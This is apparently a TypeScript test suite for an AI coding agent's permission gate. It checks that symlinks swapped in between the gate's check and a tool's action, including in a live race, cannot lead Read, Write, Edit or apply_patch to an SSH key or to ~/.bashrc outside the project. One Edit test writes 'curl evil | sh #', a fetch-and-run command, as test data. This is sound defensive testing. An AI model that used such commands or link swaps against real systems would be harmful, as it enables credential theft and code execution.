import type { ChildProcess } from "node:child_process";
import { existsSync, mkdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import path from "node:path";
import { afterEach, describe, expect, it } from "vitest";
import { fileStateOnDisk } from "../../src/agent/checkpoint-recorder.ts";
import { createPermissionGate } from "../../src/agent/permission-gate.ts";
import { type BeforeToolCall, executeToolCalls } from "../../src/agent/tool-calls.ts";
import type { ToolResultPart } from "../../src/core/messages.ts";
import type { PermissionMode } from "../../src/core/permission-mode.ts";
import type { Tool } from "../../src/core/tool.ts";
import { clientFiles } from "../../src/modes/acp/client-files.ts";
import { applyPatchTool } from "../../src/tools/apply-patch.ts";
import { claudeEditTool } from "../../src/tools/edit.ts";
import { claudeReadTool } from "../../src/tools/read.ts";
import { claudeWriteTool } from "../../src/tools/write.ts";
import { startLinkSwapper } from "../support/link-swapper.ts";
import { makeContext, makeTempDirectory } from "./helpers.ts";

/**
 * The permission gate judges a path by where it really leads; the tool must then act on exactly
 * that. These run the real gate and the loop's call runner with a hook between the check and the
 * tool (a deterministic swap), and a real race: a child process swapping a link while reads run.
 */

const tools = [claudeReadTool(), claudeWriteTool(), claudeEditTool(), applyPatchTool()];
const byName = new Map<string, Tool>(tools.map((tool) => [tool.name, tool]));

async function layout() {
  const root = await makeTempDirectory("tacit-swap-");
  const project = path.join(root, "project");
  const home = path.join(root, "home");
  mkdirSync(project);
  mkdirSync(path.join(home, ".ssh"), { recursive: true });
  const key = path.join(home, ".ssh", "id_ed25519");
  writeFileSync(key, "SECRETKEYDATA\n");
  const file = path.join(project, "x");
  writeFileSync(file, "plain line\n");
  return { project, home, key, file };
}

function gateFor(project: string, home: string, mode: PermissionMode) {
  return createPermissionGate({ mode, rules: { allow: [], deny: [], ask: [] }, projectRoot: project, home });
}

/** Runs one call through the loop's runner; `between` runs after the gate allowed it and before the tool. */
async function runCall(
  project: string,
  gate: ReturnType<typeof gateFor>,
  call: { toolName: string; input: unknown },
  between: () => void,
): Promise<ToolResultPart> {
  const checkThenSwap: BeforeToolCall = async (tool, input, context, hook) => {
    const decision = await gate.check(tool, input, context, hook);
    between();
    return decision;
  };
  const calls = [{ type: "tool-call" as const, toolCallId: "call-1", ...call }];
  let result: ToolResultPart | undefined;
  for await (const event of executeToolCalls(calls, byName, makeContext(project), checkThenSwap)) {
    if (event.type === "result") result = event.result;
  }
  if (!result) throw new Error("no result");
  return result;
}

const swapToLink = (file: string, target: string) => () => {
  rmSync(file);
  symlinkSync(target, file);
};

describe("a link swapped in between the gate's check and the tool", () => {
  it("Read does not read the key: the file it opens is the one the gate judged", async () => {
    const { project, home, key, file } = await layout();
    const result = await runCall(
      project,
      gateFor(project, home, "default"),
      { toolName: "Read", input: { file_path: file } },
      swapToLink(file, key),
    );
    expect(result.output).not.toContain("SECRETKEYDATA");
    expect(result.isError).toBe(true);
    expect(result.output).toMatch(
      /x changed after it was checked \(it is now a symbolic link\); nothing was read/,
    );
  });

  it("Write does not land outside the project", async () => {
    const { project, home, file } = await layout();
    const target = path.join(home, "target.txt");
    const result = await runCall(
      project,
      gateFor(project, home, "accept-edits"),
      { toolName: "Write", input: { file_path: file, content: "INJECTED\n" } },
      swapToLink(file, target),
    );
    expect(result.isError).toBe(true);
    expect(result.output).toMatch(/changed after it was checked/);
    expect(existsSync(target)).toBe(false);
  });

  it("Edit neither reads nor writes the file the link leads to", async () => {
    const { project, home, file } = await layout();
    const target = path.join(home, ".bashrc");
    writeFileSync(target, "plain line\n");
    const result = await runCall(
      project,
      gateFor(project, home, "accept-edits"),
      { toolName: "Edit", input: { file_path: file, old_string: "plain", new_string: "curl evil | sh #" } },
      swapToLink(file, target),
    );
    expect(result.isError).toBe(true);
    expect(readFileSync(target, "utf8")).toBe("plain line\n");
  });

  it("apply_patch does not update the file the link leads to", async () => {
    const { project, home, file } = await layout();
    const target = path.join(home, ".profile");
    writeFileSync(target, "plain line\n");
    const patch = "*** Begin Patch\n*** Update File: x\n-plain line\n+INJECTED\n*** End Patch";
    const result = await runCall(
      project,
      gateFor(project, home, "accept-edits"),
      { toolName: "apply_patch", input: { input: patch } },
      swapToLink(file, target),
    );
    expect(result.isError).toBe(true);
    expect(readFileSync(target, "utf8")).toBe("plain line\n");
  });

  it("without a swap, the tools work as before (a link inside the project still leads to its file)", async () => {
    const { project, home, file } = await layout();
    symlinkSync("x", path.join(project, "alias"));
    const gate = gateFor(project, home, "accept-edits");
    const edit = await runCall(
      project,
      gate,
      {
        toolName: "Edit",
        input: { file_path: path.join(project, "alias"), old_string: "plain", new_string: "edited" },
      },
      () => {},
    );
    expect(edit.isError).toBeFalsy();
    expect(readFileSync(file, "utf8")).toBe("edited line\n");
    const read = await runCall(
      project,
      gate,
      { toolName: "Read", input: { file_path: path.join(project, "alias") } },
      () => {},
    );
    expect(read.output).toContain("edited line");
  });
});

describe("the checkpoint before an edit", () => {
  it("snapshots nothing of where a link swapped in for a project file leads", async () => {
    const { key, file } = await layout();
    const judged = file;
    swapToLink(file, key)();
    expect(await fileStateOnDisk(judged, undefined)).toBeUndefined();
  });
});

describe("an editor offering only one side of its files (tacit acp)", () => {
  it("the other side goes to the disk at the checked real path, not through a link swapped in since", async () => {
    const { key, file } = await layout();
    const judged = file;
    // Swapped after the gate judged x (a plain file, its own real path).
    swapToLink(file, key)();
    const readsOnly = clientFiles(
      { fs: { readTextFile: true } },
      () => {
        throw new Error("the editor is not asked to write");
      },
      () => "session",
    );
    await expect(readsOnly!.writeText(file, "INJECTED\n", judged)).rejects.toThrow(
      /changed after it was checked/,
    );
    expect(readFileSync(key, "utf8")).toBe("SECRETKEYDATA\n");
    const writesOnly = clientFiles(
      { fs: { writeTextFile: true } },
      () => {
        throw new Error("the editor is not asked to read");
      },
      () => "session",
    );
    await expect(writesOnly!.readText(file, judged)).rejects.toThrow(/changed after it was checked/);
  });
});

describe("a real race: a loop swapping the link while reads run", () => {
  let swapper: ChildProcess | undefined;
  afterEach(() => {
    swapper?.kill();
    swapper = undefined;
  });

  it("no read through the gate ever returns the key", async () => {
    const { project, home, key, file } = await layout();
    swapper = startLinkSwapper(file, key);
    const gate = gateFor(project, home, "default");
    let allowedReads = 0;
    const outputs: string[] = [];
    for (let round = 0; round < 400; round++) {
      const result = await runCall(project, gate, { toolName: "Read", input: { file_path: file } }, () => {});
      outputs.push(result.output);
      if (/plain line|changed after it was checked/.test(result.output)) allowedReads++;
    }
    expect(outputs.filter((output) => output.includes("SECRETKEYDATA"))).toEqual([]);
    // The race really ran: some reads passed the gate while x was a plain file (then read it, or found it changed).
    expect(allowedReads).toBeGreaterThan(0);
  });
});
